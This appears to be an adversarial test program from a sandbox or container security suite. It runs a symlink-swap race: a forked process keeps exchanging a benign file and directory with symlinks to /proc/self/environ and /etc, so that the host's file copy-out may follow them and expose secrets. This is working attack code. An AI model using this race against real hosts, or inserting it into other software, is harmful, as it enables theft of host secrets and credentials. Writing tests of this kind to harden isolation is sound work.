/* FS-06: a background process keeps swapping a regular file with a symlink to a host secret (and a real
 * directory with a symlink to a host directory) with renameat2(RENAME_EXCHANGE), hoping the host's
 * copy-out resolves one and opens the other. argv[1] = "exit" (leave the swapper behind) or "stay"
 * (keep running until the wall limit). */
#include "adv.h"
#include <linux/fs.h>

static int exchange(const char *a, const char *b) {
    return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv) {
    const char *mode = argc > 1 ? argv[1] : "exit";
    int fd = open("data", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    write_all(fd, "benign-data\n", 12);
    close(fd);
    TRY("symlink_link", symlink("/proc/self/environ", "link"));
    mkdir("dir", 0755);
    fd = open("dir/inner", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    write_all(fd, "benign-inner\n", 13);
    close(fd);
    TRY("symlink_dirlink", symlink("/etc", "dirlink"));
    TRY("exchange_probe", exchange("data", "link"));
    exchange("data", "link"); /* back */
    if (fork() == 0) {
        setsid();
        for (;;) {
            exchange("data", "link");
            exchange("dir", "dirlink");
        }
    }
    SAY("swapper=started\n");
    if (strcmp(mode, "stay") == 0)
        for (;;) {
            exchange("dir", "dirlink");
            exchange("data", "link");
        }
    usleep(200 * 1000);
    return 0;
}
